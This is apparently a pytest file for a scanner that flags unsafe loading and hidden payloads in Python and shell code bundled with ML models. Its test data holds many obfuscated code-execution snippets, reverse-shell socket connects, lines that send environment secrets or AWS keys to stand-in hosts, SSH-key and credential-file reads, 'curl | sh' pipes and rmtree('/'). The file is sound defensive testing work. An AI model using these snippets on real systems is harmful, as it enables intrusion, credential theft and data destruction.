"""What source code is said to do: weaknesses that a reviewer names, and effects of loading it."""

import ast
import base64
import json
import textwrap
import zlib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from modelward.artifact.around import source
from modelward.artifact.around.python.payload import call_text, effects
from modelward.artifact.around.python.shell import insecure
from modelward.artifact.around.python.walk import walk
from modelward.artifact.around.source import analyse, siblings
from modelward.artifact.reading import Reading
from modelward.artifact.verdict import inspect_bytes


def rules(text):
    return [
        (weakness.rule.removeprefix("source."), weakness.severity) for weakness in analyse(text).weaknesses
    ]


def calls(text):
    return [effect.call for effect in analyse(text).payload if effect.level == "dangerous"]


# --- weaknesses ---------------------------------------------------------------------------------------------

WEAK = [
    ("import pickle\npickle.load(f)", "unpickles", "medium"),
    ("import pickle\npickle.loads(b)", "unpickles", "medium"),
    ("import pickle as p\np.Unpickler(f).load()", "unpickles", "medium"),
    ("from pickle import load as l\nl(f)", "unpickles", "medium"),
    ("import cPickle\ncPickle.load(f)", "unpickles", "medium"),
    ("import dill\ndill.load(f)", "unpickles", "medium"),
    ("import cloudpickle\ncloudpickle.loads(b)", "unpickles", "medium"),
    ("import joblib\njoblib.load('m.joblib')", "unpickles", "medium"),
    ("import marshal\nmarshal.loads(b)", "unpickles", "medium"),
    ("import shelve\nshelve.open('s')", "unpickles", "medium"),
    ("import pandas as pd\npd.read_pickle('x')", "unpickles", "medium"),
    ("import pandas as pd\npd.read_pickle('https://x/y.pkl')", "unpickles-download", "critical"),
    (
        "import pickle, requests\nr = requests.get(u, timeout=1)\npickle.loads(r.content)",
        "unpickles-download",
        "critical",
    ),
    (
        "import joblib\nfrom huggingface_hub import hf_hub_download as d\njoblib.load(d('a/b', 'm.pkl'))",
        "unpickles-download",
        "critical",
    ),
    (
        "import pickle, io\nfrom urllib.request import urlopen\npickle.load(io.BytesIO(urlopen(u).read()))",
        "unpickles-download",
        "critical",
    ),
    (
        "import urllib.request, pickle\nurllib.request.urlretrieve(u, 'm.pkl')\npickle.load(open('m.pkl', 'rb'))",
        "unpickles-download",
        "critical",
    ),
    ("import wget, joblib\np = wget.download(u)\njoblib.load(p)", "unpickles-download", "critical"),
    ("import torch\ntorch.load('m.pt')", "torch-load", "medium"),
    ("import torch as t\nt.load('m.pt', weights_only=False)", "torch-load", "high"),
    ("import torch, wget\ntorch.load(wget.download(u), weights_only=False)", "torch-load", "critical"),
    ("import torch, wget\ntorch.jit.load(wget.download(u))", "loads-program", "high"),
    ("import torch\ntorch.hub.load('someone/repo', 'm')", "torch-hub", "medium"),
    ("import yaml\nyaml.load(f)", "yaml-load", "high"),
    ("import yaml\nyaml.load(f, Loader=yaml.Loader)", "yaml-load", "high"),
    ("import yaml\nyaml.load(f, yaml.FullLoader)", "yaml-load", "medium"),
    ("import yaml\nyaml.unsafe_load(f)", "yaml-load", "high"),
    ("import numpy as np\nnp.load('x.npy', allow_pickle=True)", "numpy-pickle", "medium"),
    ("from keras.models import load_model\nload_model('x', safe_mode=False)", "keras-unsafe", "high"),
    ("import keras\nkeras.config.enable_unsafe_deserialization()", "keras-unsafe", "high"),
    ("import mlflow\nmlflow.pyfunc.load_model('http://x/m')", "mlflow-remote", "high"),
    (
        "from transformers import AutoModel\nAutoModel.from_pretrained('a/b', trust_remote_code=True)",
        "trust-remote-code",
        "high",
    ),
    (
        "from datasets import load_dataset\nload_dataset('a/b', trust_remote_code=True, revision='"
        + "a" * 40
        + "')",
        "trust-remote-code",
        "medium",
    ),
    ("eval(x)", "evaluates", "medium"),
    ("def f(x):\n    exec(x)", "evaluates", "medium"),
    ("import base64\nexec(base64.b64decode(x))", "runs-hidden-text", "critical"),
    ("import os\nos.system('ls ' + name)", "shell-injection", "high"),
    ("import os\nos.popen(f'ls {name}')", "shell-injection", "high"),
    ("import subprocess\nsubprocess.run(cmd, shell=True)", "shell-injection", "high"),
    ("from subprocess import check_output as c\nc('ls %s' % x, shell=True)", "shell-injection", "high"),
    ("import os\nos.system('curl -k https://x/y')", "tls-disabled", "high"),
    ("import os\nos.system('curl http://x/y | sh')", "runs-download", "high"),
    ("import subprocess\nsubprocess.run(['pip', 'install', 'http://x/y.whl'])", "pip-insecure", "high"),
    ("import requests\nrequests.get(u, verify=False, timeout=1)", "tls-disabled", "high"),
    ("import requests\ns = requests.Session()\ns.get(u, verify=False)", "tls-disabled", "high"),
    ("import requests\ns = requests.Session()\ns.verify = False", "tls-disabled", "high"),
    (
        "import ssl\nssl._create_default_https_context = ssl._create_unverified_context",
        "tls-disabled",
        "high",
    ),
    ("import ssl\nc = ssl.create_default_context()\nc.check_hostname = False", "tls-disabled", "high"),
    ("import ssl\nc = ssl.create_default_context()\nc.verify_mode = ssl.CERT_NONE", "tls-disabled", "high"),
    ("import httpx\nhttpx.Client(verify=False)", "tls-disabled", "high"),
    ("import os\nos.environ['CURL_CA_BUNDLE'] = ''", "tls-disabled", "high"),
    ("import os\nos.environ['HF_HUB_DISABLE_SSL_VERIFY'] = '1'", "tls-disabled", "high"),
    ("import requests\nrequests.get(u)", "no-timeout", "low"),
    ("import tarfile\ntarfile.open(p).extractall('d')", "tar-extract", "medium"),
    ("import tarfile\nwith tarfile.open(p) as t:\n    t.extractall()", "tar-extract", "medium"),
    ("import tarfile, wget\nt = tarfile.open(wget.download(u))\nt.extractall()", "tar-extract", "high"),
    ("import zipfile, wget\nzipfile.ZipFile(wget.download(u)).extractall()", "zip-extract", "low"),
    ("import tempfile\ntempfile.mktemp()", "temporary-file", "medium"),
    ("from flask import Flask\napp = Flask(__name__)\napp.run(debug=True)", "debug-server", "high"),
    (
        "from flask import Flask\napp = Flask(__name__)\napp.run(host='0.0.0.0')",
        "listens-everywhere",
        "medium",
    ),
    ("import uvicorn\nuvicorn.run(app, host='0.0.0.0')", "listens-everywhere", "medium"),
    ("import gradio as gr\ndemo = gr.Interface(fn)\ndemo.launch(share=True)", "shared-demo", "medium"),
    ("import hashlib\ndef verify_checksum(p):\n    return hashlib.md5(p).hexdigest()", "weak-hash", "low"),
]


@pytest.mark.parametrize(("text", "rule", "severity"), WEAK)
def test_weakness(text, rule, severity):
    assert (rule, severity) in rules(text)
    assert all(weakness.remedy and weakness.message for weakness in analyse(text).weaknesses)


SAFE = [
    "import torch\ntorch.load('m.pt', weights_only=True)",
    "import torch\ndef f(x, **kw):\n    torch.load(x, **kw)",
    "import torch\ntorch.jit.load('local.pt')",
    "import torch\ntorch.hub.load('pytorch/vision', 'resnet18')",
    "import yaml\nyaml.safe_load(f)",
    "import yaml\nyaml.load(f, Loader=yaml.SafeLoader)",
    "import yaml\nyaml.load(f, Loader=yaml.CSafeLoader)",
    "import json\njson.load(f)",
    "import numpy as np\nnp.load('x.npy')\nnp.load('x.npy', allow_pickle=False)",
    "import keras\nkeras.models.load_model('x.keras')",
    "import mlflow\nmlflow.pyfunc.load_model('runs:/1/m')",
    "from transformers import AutoModel\nAutoModel.from_pretrained('a/b')\nAutoModel.from_pretrained('a/b', trust_remote_code=False)",
    "eval('1 + 1')",
    "import ast\nast.literal_eval(x)",
    "model.eval()\nre.compile(x)\nmodel.compile(optimizer)",
    "import os\nos.system('ls')",
    "import subprocess\nsubprocess.run(['ls', name], check=True)",
    "import subprocess\nsubprocess.run(cmd)",
    "import requests\nrequests.get(u, timeout=3)\nrequests.get(u, timeout=3, verify='ca.pem')",
    "import tarfile\ntarfile.open(p).extractall(filter='data')",
    "import zipfile\nzipfile.ZipFile(p).extractall()",
    "import hashlib\ndef cache_key(p):\n    return hashlib.md5(p).hexdigest()",
    "import hashlib\nhashlib.sha256(b)\nhashlib.md5(b, usedforsecurity=False)",
    "import uvicorn\nuvicorn.run(app, host='127.0.0.1')",
    "from flask import Flask\napp = Flask(__name__)\napp.run()",
    "import os\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'",
    "class A:\n    def load(self, x): ...\nA().load(f)",
    "def compile(x): ...\ncompile(y)",
    "def f(eval):\n    eval(x)",
    "from mine import load\nload(f)",
    "import ssl\nssl.create_default_context()",
    "import subprocess\nsubprocess.run(['pip', 'install', 'torch', '--index-url', 'https://download.pytorch.org/whl/cpu'])",
]


@pytest.mark.parametrize("text", SAFE)
def test_safe_use_is_not_reported(text):
    assert rules(text) == []


def test_a_weakness_has_its_line_and_is_said_once():
    found = analyse("import pickle\n\n\npickle.load(f); pickle.load(g)\n").weaknesses
    assert [(item.rule, item.line) for item in found] == [("source.unpickles", 4)]


def test_weaknesses_are_in_order_of_lines():
    text = "import pickle\ndef f():\n    pickle.load(a)\npickle.load(b)\n"
    assert [item.line for item in analyse(text).weaknesses] == [3, 4]


# --- payloads -----------------------------------------------------------------------------------------------

HIDDEN = base64.b64encode(b"import os; os.system('id')").decode()
PACKED = base64.b64encode(zlib.compress(b"import os; os.system('id')")).decode()
DANGEROUS = [
    ("import os\nos.system('id')", "os.system('id')"),
    ("__import__('os').system('id')", "os.system('id')"),
    ("import importlib\nimportlib.import_module('os').system('id')", "os.system('id')"),
    ("from os import *\nsystem('id')", "os.system('id')"),
    ("import os as o\nf = o.system\nf('id')", "os.system('id')"),
    ("import shutil\nshutil.os.system('id')", "os.system('id')"),
    ("import collections\ncollections._sys.modules['os'].system('id')", "os.system('id')"),
    ("import sys\nsys.modules['os'].popen('id')", "os.popen('id')"),
    ("import os\ngetattr(os, 'sys' + 'tem')('id')", "os.system('id')"),
    ("import os\ngetattr(os, 'metsys'[::-1])('id')", "os.system('id')"),
    ("import os\nvars(os)['system']('id')", "os.system('id')"),
    ("import os\nos.__dict__['system']('id')", "os.system('id')"),
    ("import os\nos.__dict__.get('system')('id')", "os.system('id')"),
    ("__builtins__.__import__('os').system('id')", "os.system('id')"),
    ("print.__self__.__import__('os').system('id')", "os.system('id')"),
    ("globals()['__builtins__'].__import__('os').system('id')", "os.system('id')"),
    ("import os\nx, y = os.system, 'id'\nx(y)", "os.system('id')"),
    ("import os\n(lambda: os.system('id'))()", "os.system('id')"),
    ("import os\n[os.system(c) for c in ['id']]", "os.system(...)"),
    ("import os\nclass A:\n    x = os.system('id')", "os.system('id')"),
    ("import os\ndef f(x=os.system('id')): ...", "os.system('id')"),
    ("import os\n@os.system('id')\ndef f(): ...", "os.system('id')"),
    ("import os\ndef f():\n    os.system('id')\nf()", "os.system('id')"),
    ("import os\ndef f():\n    os.system('id')\ndef g():\n    f()\ng()", "os.system('id')"),
    (
        "import os\nclass A:\n    def __init__(self):\n        self.go()\n    def go(self):\n        os.system('id')",
        "os.system('id')",
    ),
    ("import os\nclass A:\n    def __reduce__(self):\n        os.system('id')", "os.system('id')"),
    ("import os\ndef handle(data, context):\n    os.system(data[0])", "os.system(...)"),
    ("import os\nclass H:\n    def initialize(self, c):\n        os.system('id')", "os.system('id')"),
    (
        "import subprocess\nsubprocess.Popen(['/bin/sh', '-c', 'id'])",
        "subprocess.Popen(['/bin/sh', '-c', 'id'])",
    ),
    (
        "from subprocess import run as r\nr('curl http://x|sh', shell=True)",
        "subprocess.run('curl http://x|sh', shell=True)",
    ),
    ("import pty\npty.spawn('/bin/sh')", "pty.spawn('/bin/sh')"),
    ("import os\nos.execvp('sh', ['sh'])", "os.execvp('sh', ['sh'])"),
    (f"import base64\nexec(base64.b64decode('{HIDDEN}'))", None),
    (f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{PACKED}')))", None),
    ("exec(bytes.fromhex('70617373'))", "exec(b'pass')"),
    ("import codecs\neval(codecs.decode('vzcbeg', 'rot13'))", "eval('import')"),
    ("exec(''.join(chr(c) for c in [112, 97, 115, 115]))", None),
    ("exec(''.join(map(chr, x)))", None),
    ("import requests\nexec(requests.get(u).text)", None),
    ("from urllib.request import urlopen\neval(urlopen('http://x').read())", None),
    ("exec('import os; os.system(\"id\")')", None),
    ("import marshal\nexec(marshal.loads(b'abc'))", None),
    ("import types, marshal\ntypes.FunctionType(marshal.loads(x), {})()", None),
    ("import pickle\npickle.loads(b'cos\\nsystem\\n.')", None),
    ("import pickle, base64\npickle.loads(base64.b64decode(x))", None),
    ("().__class__.__base__.__subclasses__()[104]()", None),
    ("(lambda: 0).__globals__['os'].system('id')", None),
    ("from threading import Thread\nimport os\nThread(target=os.system, args=('id',)).start()", None),
    ("import atexit, os\natexit.register(os.system, 'id')", None),
    ("import os\nlist(map(os.system, ['id']))", None),
    ("import functools, os\nfunctools.partial(os.system, 'id')()", None),
    ("import ctypes\nctypes.CDLL('libc.so.6').system(b'id')", None),
    ("import socket\ns = socket.socket()\ns.connect(('1.2.3.4', 4444))", None),
    ("import requests, os\nrequests.post('http://x', json=dict(os.environ))", None),
    ("import requests, os\nrequests.get('http://x/?k=' + os.environ['AWS_SECRET_ACCESS_KEY'])", None),
    ("import requests, socket\nrequests.get(f'http://x/{socket.gethostname()}')", None),
    ("open('/etc/passwd').read()", "open('/etc/passwd')"),
    (
        "import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a')",
        "open('~/.ssh/authorized_keys', 'a')",
    ),
    ("import os\nopen(os.path.join(h, '.ssh', 'id_rsa'))", None),
    ("open(f'{home}/.bashrc', 'a')", None),
    ("open('%s/.aws/credentials' % home)", None),
    ("from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text('k')", None),
    ("from pathlib import Path\nPath.home().joinpath('.netrc').read_text()", None),
    ("open('/tmp/pwned', 'w').write('x')", None),
    ("import shutil\nshutil.rmtree('/')", None),
    ("import os\ndef handle(d, c):\n    os.remove('/var/log/x')", None),
    ("import shutil\nshutil.copy('x', '/etc/cron.d/x')", None),
    (
        "import socket, os\ndef handle(d, c):\n    s = socket.socket()\n    s.connect(('1.1.1.1', 1))\n    os.dup2(s.fileno(), 0)",
        None,
    ),
    ("try:\n    import os\nexcept ImportError:\n    pass\nelse:\n    os.system('id')", "os.system('id')"),
    ("import os\nwhile True:\n    os.system('id')\n    break", "os.system('id')"),
    ("import os\nmatch 1:\n    case 1:\n        os.system('id')", "os.system('id')"),
    ("import os\nasync def forward():\n    await os.system('id')", "os.system('id')"),
    ("import os\nif (x := os.system('id')): ...", "os.system('id')"),
]


@pytest.mark.parametrize(("text", "call"), DANGEROUS)
def test_payload_is_dangerous(text, call):
    found = analyse(text)
    assert found.level == "dangerous"
    if call is not None:
        assert call in calls(text)


BENIGN = [
    "import os\nif __name__ == '__main__':\n    os.system('id')",
    "import os\ndef helper():\n    os.system('id')",
    "import os, sys\nsys.path.append(os.path.dirname(__file__))\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'",
    "import os\nos.makedirs('out', exist_ok=True)\nTOKEN = os.environ.get('HF_TOKEN')",
    "import torch\nclass M(torch.nn.Module):\n    def __init__(self):\n        super().__init__()\n    def forward(self, x):\n        return x",
    "import logging\nlogger = logging.getLogger(__name__)\nlogger.info('hello')",
    "try:\n    import flash_attn\nexcept ImportError:\n    flash_attn = None",
    "import re\nP = re.compile('a')\nmodel.eval()",
    "import importlib\nX = importlib.import_module('torch.nn').Linear",
    "class T:\n    def save_vocabulary(self, d):\n        open(d + '/vocab.txt', 'w').write('x')",
    "class T:\n    def __init__(self, p):\n        self.v = open(p, encoding='utf-8').read()",
    "import requests\nclass P:\n    def __call__(self, url):\n        return requests.get(url, stream=True)",
    "import base64, json\nD = json.loads(base64.b64decode('e30='))",
    "def register(cls):\n    return cls\n@register\nclass A: ...",
    "import torch\nf = torch.compile(torch.nn.Linear(1, 1))",
    "class R:\n    def all(self):\n        return self.__class__.__subclasses__()",
    "import subprocess\nclass H:\n    def initialize(self, c):\n        subprocess.check_output(['nvidia-smi'])",
    "eval('1 + 1')\nexec('x = 1')",
    "import os\nclass H:\n    def postprocess(self, x):\n        p = f'/tmp/{x}.wav'\n        open(p, 'wb').write(x)\n        os.remove(p)",
    "isinstance(f, type(eval))",
    "import subprocess\nsubprocess.run(['nvidia-smi'])",
    "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    import os",
]


@pytest.mark.parametrize("text", BENIGN)
def test_usual_model_code_has_no_payload(text):
    assert analyse(text).payload == ()


UNPROVEN = [
    "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'einops'])",
    "import os\nos.system('pip install flash-attn')",
    "import requests\nrequests.get('http://x')",
    "exec(open('version.py').read())",
    "eval('torch.' + name)",
    "import ctypes\nctypes.CDLL('libfoo.so')",
    "open('cache.txt', 'w')",
    "import os\nos.remove('x')",
    "from omegaconf import OmegaConf\nOmegaConf.register_new_resolver('eval', eval)",
]


@pytest.mark.parametrize("text", UNPROVEN)
def test_what_model_code_may_have_a_reason_to_do_is_unproven(text):
    assert analyse(text).level == "unproven"
    assert calls(text) == []


def test_an_effect_names_its_entry_and_line():
    effect = analyse("import os\nclass A:\n    def __init__(self):\n        os.system('id')").payload[0]
    assert (effect.entry, effect.line) == ("A.__init__", 4)
    assert analyse("import os\nos.system('id')").payload[0].entry == ""


def test_entries_can_be_named():
    seen = walk(ast.parse("import os\ndef mine():\n    os.system('id')"))
    assert effects(seen) == []
    assert [effect.entry for effect in effects(seen, frozenset({"mine"}))] == ["mine"]


def test_code_on_import_wins_over_an_entry():
    text = "import os\ndef handle():\n    os.system('id')\nhandle()"
    assert analyse(text).payload[0].entry == ""


def test_a_call_is_shown_with_its_resolved_arguments():
    seen = walk(ast.parse("import os as o\nx = 'a' + 'b'\no.system(x, k=[1, y], **z)"))
    assert call_text(seen.sites[0]) == "os.system('ab', k=[1, ...], ...)"
    assert len(call_text(walk(ast.parse("f('" + "a" * 900 + "', b='" + "c" * 900 + "')")).sites[0])) == 200


# --- limits and broken source -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "print 'python 2'",
        "def f(:",
        "x = (",
        "a\0b",
        "'" * 3,
        "-" * 20_000 + "1",
        "(" * 5_000,
        "\ud800 = 1",
        "if 1:\n" * 101,
    ],
)
def test_what_cannot_be_parsed_is_said(text):
    found = analyse(text)
    assert found.level == "unproven"
    assert found.weaknesses == ()
    assert "cannot be parsed" in found.problem


def test_too_long_source_is_not_parsed(monkeypatch):
    monkeypatch.setattr(source, "LONGEST", 10)
    assert "10 are read" in analyse("x = 1\ny = 2\n").problem


def test_long_but_flat_source_is_analysed():
    text = "\n".join(f"x{n} = {n}" for n in range(20_000)) + "\nimport os\nos.system('id')"
    assert calls(text) == ["os.system('id')"]


def test_a_chain_of_elif_is_analysed():
    text = (
        "import os\nif a == 0:\n    pass\n"
        + "".join(f"elif a == {n}:\n    pass\n" for n in range(50))
        + "else:\n    os.system('id')"
    )
    assert calls(text) == ["os.system('id')"]


def test_text_within_text_ends():
    text = "exec('pass')"
    for _ in range(5):
        text = f"exec({text!r})"
    assert analyse(text).level in {"", "unproven"}


def test_a_constant_does_not_grow_without_end():
    text = "x = 'a' * 1000\n" + "x = x * 1000\n" * 20 + "exec(x)"
    assert analyse(text).level == "unproven"


WORDS = st.sampled_from(
    ["import os\n", "os.system", "(", ")", "'id'", "\n", "    ", "def f():\n", "class A:\n", "x", "=", "[", "]", "{", "}",
     ":", ",", "lambda", "eval", "exec", ".", "**", "*", "@", "if ", "else", "for x in y:\n", "await ", "f'{x}'", "\\", "0"]
)  # fmt: skip


@given(st.lists(WORDS, max_size=40).map("".join))
@settings(max_examples=300, deadline=None)
def test_any_text_is_analysed_or_refused(text):
    found = analyse(text)
    assert found.level in {"", "unproven", "dangerous"}


@given(st.text(max_size=200))
@settings(max_examples=100, deadline=None)
def test_any_characters_are_survived(text):
    analyse(text)


@given(st.binary(max_size=300))
@settings(max_examples=100, deadline=None)
def test_the_reader_takes_any_bytes(data):
    into = Reading("x.py")
    source.read(data, into)
    assert all(event.level == "note" for event in into.events)


@given(st.sampled_from(["id", "curl x", "a'b", 'a"b', "\\", "é"]), st.integers(0, 3))
@settings(deadline=None)
def test_a_command_is_found_however_it_is_written(command, way):
    cut = len(command) // 2
    ways = (
        f"os.system({command!r})",
        f"os.system({command[:cut]!r} + {command[cut:]!r})",
        f"os.system(''.join([{command[:cut]!r}, {command[cut:]!r}]))",
        f"os.system({command.encode()!r}.decode())",
    )
    assert calls("import os\n" + ways[way]) == [f"os.system({command!r})"]


# --- real code ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "package", ["sklearn.linear_model", "torch.nn.modules", "keras.src.layers.core", "xgboost"]
)
def test_real_libraries_have_no_payload(package):
    name, *rest = package.split(".")
    spec = pytest.importorskip("importlib.util").find_spec(name)
    if spec is None:
        pytest.skip(f"{name} is not installed")
    folder = Path(spec.submodule_search_locations[0], *rest)
    files = sorted(folder.glob("*.py"))[:15]
    assert files
    for file in files:
        found = analyse(file.read_text(encoding="utf-8"))
        assert [effect for effect in found.payload if effect.level == "dangerous"] == [], file
        assert found.problem is None


# --- as a file ----------------------------------------------------------------------------------------------


def test_a_python_file_has_findings_and_no_verdict():
    report = inspect_bytes(b"# loads\nimport pickle\npickle.load(f)\n", "a/load.py")
    assert (report.format, report.verdict) == ("python", None)
    assert [(f.rule, f.severity, f.location.line) for f in report.findings] == [
        ("source.unpickles", "medium", 3)
    ]
    assert report.findings[0].remedy


def test_a_payload_in_a_file_is_a_finding():
    report = inspect_bytes(b"# hi\nimport os\nos.system('id')\n", "a.py")
    assert report.verdict is None
    assert [(f.rule, f.severity) for f in report.findings] == [("source.payload", "high")]
    assert "os.system('id')" in report.findings[0].message


def test_python_2_is_said_to_be_unparsed():
    report = inspect_bytes(b"# old\nprint 'x'\n", "a.py")
    assert report.verdict is None
    assert [(f.rule, f.severity) for f in report.findings] == [("source.unparsed", "info")]


def test_relative_imports_are_siblings():
    text = textwrap.dedent("""
        from .layers import Norm
        from . import attention, utils as u
        from ..up import x
        from .sub.deep import y
        from . import *
        import torch
    """)
    assert siblings(text) == ["layers", "attention", "utils", "sub/deep"]
    assert siblings("def (") == []


# --- shell --------------------------------------------------------------------------------------------------

COMMANDS = [
    ("curl https://x | sh", "runs-download"),
    ("curl -fsSL https://x | sudo -E bash -", "runs-download"),
    ("wget -qO- https://x | python3", "runs-download"),
    ('bash -c "$(curl -fsSL https://x)"', "runs-download"),
    ("bash <(curl -s https://x)", "runs-download"),
    ("curl -k https://x", "tls-disabled"),
    ("curl -sSLk https://x -o y", "tls-disabled"),
    ("curl -o y --insecure https://x", "tls-disabled"),
    ("wget --no-check-certificate https://x", "tls-disabled"),
    ("git -c http.sslVerify=false clone https://x", "tls-disabled"),
    ("pip install http://x/a.whl", "pip-insecure"),
    ("pip3 install git+http://x/a", "pip-insecure"),
    ("pip install --trusted-host x a", "pip-insecure"),
    ("python -m pip install a --extra-index-url https://mine/simple", "pip-extra-index"),
]


@pytest.mark.parametrize(("command", "rule"), COMMANDS)
def test_insecure_command(command, rule):
    assert rule in [found[0] for found in insecure(command)]


@pytest.mark.parametrize(
    "command",
    [
        "curl -O https://x/y.tar.gz", "curl -fsSL https://x -o y", "wget https://x", "pip install torch", "ls | sh-thing",
        "pip install -r requirements.txt", "curl --keepalive-time 2 https://x", "echo curl", "cat x | sh", "curl https://k/-k-x",
        "pip install torch --extra-index-url https://download.pytorch.org/whl/cpu", "pip install http-client",
        "pip install -i http://localhost:8080 a",
    ],
)  # fmt: skip
def test_usual_command(command):
    assert list(insecure(command)) == []


def test_long_commands_take_linear_time():
    for part in ("curl ", "wget -x ", "pip install ", "--extra-index-url ", "http://", "| sh", "a "):
        list(insecure(part * 4000))


def test_scripts_have_findings_by_line():
    text = b"#!/bin/sh\n# curl -k x\nset -e\ncurl -fsSL https://x \\\n  | bash\n"
    report = inspect_bytes(text, "setup.sh")
    assert (report.format, report.verdict) == ("shell", None)
    assert [(f.rule, f.location.line) for f in report.findings] == [("source.runs-download", 4)]


def test_results_are_plain_values():
    found = analyse("import pickle\npickle.load(f)")
    assert json.dumps([item.message for item in found.weaknesses])


# --- ways to call without a call, and to run without exec ---------------------------------------------------

OTHER_WAYS = [
    ("import os\n@os.system\nclass command: pass\n", "dangerous"),
    ("import os\nx: os.system('id') = 1\n", "dangerous"),
    ("import os\ndef f(a: os.system('id')): pass\n", "dangerous"),
    ("import os\ndef f() -> os.system('id'): pass\n", "dangerous"),
    ("__builtins__['eval']('__import__(\"os\").system(\"id\")')", "dangerous"),
    ("globals()['__builtins__']['eval'](\"__import__('os').system('id')\")", "dangerous"),
    ("import sys\nsys._getframe().f_globals['__builtins__']['exec']('import os;os.system(\"id\")')", "dangerous"),
    ("__import__('os').__getattribute__('system')('id')", "dangerous"),
    ("__loader__.load_module('os').system('id')", "dangerous"),
    ("import operator, os\noperator.methodcaller('system', 'id')(os)", "dangerous"),
    ("import operator, os\noperator.attrgetter('system')(os)('id')", "dangerous"),
    ("import timeit\ntimeit.timeit('__import__(\"os\").system(\"id\")', number=1)", "dangerous"),
    ("import cProfile\ncProfile.run('import os; os.system(\"id\")')", "dangerous"),
    ("from ctypes import *\nCDLL('libc.so.6').system(b'id')", "dangerous"),
    ("import torch, os\ntorch.load = os.system", "dangerous"),
    ("d = {'f': __import__('os').system}\nd['f']('id')", "unproven"),
    ("import os\ndef g(): return os.system\ng()('id')", "unproven"),
    ("import runpy\nrunpy.run_path('weights.txt')", "unproven"),
    ("from importlib.machinery import SourceFileLoader\nSourceFileLoader('x', 'x.txt').load_module()", "unproven"),
    ("import pip\npip.main(['install', 'x'])", "unproven"),
    ("exec('x = 1 #" + "x" * 70_000 + "')", "unproven"),
    ("import timeit\ntimeit.timeit(lambda: 1)\ntimeit.timeit('x = 1')", ""),
    ("import subprocess\nv = subprocess.check_output(['ninja', '--version'])", ""),
    ("import subprocess\ndef f():\n    return subprocess.run(['cat', '/proc/cpuinfo'])\nx = f", ""),
    ("import functools\n@functools.wraps(print)\ndef f(a: int) -> str: ...", ""),
]  # fmt: skip


@pytest.mark.parametrize(("text", "level"), OTHER_WAYS)
def test_other_ways_to_run_code(text, level):
    assert analyse(text).level == level
